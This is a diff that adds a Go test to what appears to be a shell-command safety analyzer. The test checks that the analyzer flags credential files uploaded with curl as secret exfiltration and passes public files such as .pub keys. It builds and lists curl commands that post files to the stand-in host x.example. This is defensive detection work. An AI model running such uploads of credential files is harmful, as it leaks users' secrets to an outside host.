@@ -1,0 +1,71 @@
+package shell
+
+import (
+	"path"
+	"strings"
+	"testing"
+
+	"github.com/shieldcli/shield/pkg/effect"
+	"github.com/shieldcli/shield/pkg/knowledge"
+)
+
+// TestSendingCredentials sends a file of each glob of the credential lists.
+func TestSendingCredentials(t *testing.T) {
+	t.Parallel()
+	for _, list := range knowledge.PathLists {
+		if list.Name == "public_files" {
+			continue
+		}
+		for _, glob := range list.Globs {
+			for _, file := range samples(glob) {
+				for _, command := range []string{
+					"curl -F 'f=@" + file + "' https://x.example/",
+					"cat '" + file + "' | curl -d @- https://x.example/",
+				} {
+					if !sends(command) {
+						t.Errorf("%s: %s: no secret is sent", list.Name, command)
+					}
+				}
+			}
+		}
+	}
+	for _, command := range []string{
+		"cat .env.example | curl -d @- https://x.example/",
+		"cat ~/.ssh/id_ed25519.pub | curl -d @- https://x.example/",
+		"cat ~/.ssh/known_hosts | curl -d @- https://x.example/",
+		"cat src/*/main.go | curl -d @- https://x.example/",
+		"cat * | curl -d @- https://x.example/",
+		"cat ~/.codex/config.toml | curl -d @- https://x.example/",
+	} {
+		if sends(command) {
+			t.Errorf("%s: a secret is sent", command)
+		}
+	}
+}
+
+func sends(command string) bool {
+	for _, e := range Analyze(command, here()).Effects {
+		if e.Kind == effect.SendSecret {
+			return true
+		}
+	}
+	return false
+}
+
+// samples returns a path for each alternative of a glob, the innermost braces first; none for public keys
+// and the files of other machines' drives, which a shell of Unix cannot name.
+func samples(glob string) []string {
+	if open := strings.LastIndexByte(glob, '{'); open >= 0 {
+		end := open + strings.IndexByte(glob[open:], '}')
+		var out []string
+		for part := range strings.SplitSeq(glob[open+1:end], ",") {
+			out = append(out, samples(glob[:open]+part+glob[end+1:])...)
+		}
+		return out
+	}
+	file := strings.NewReplacer("?:/", "c:/", "/**", "/x1", "**/", "/srv/", "~/", "/home/me/", "*", "1").Replace(glob)
+	if strings.HasPrefix(file, "c:") || path.Ext(file) == ".pub" {
+		return nil
+	}
+	return []string{file}
+}
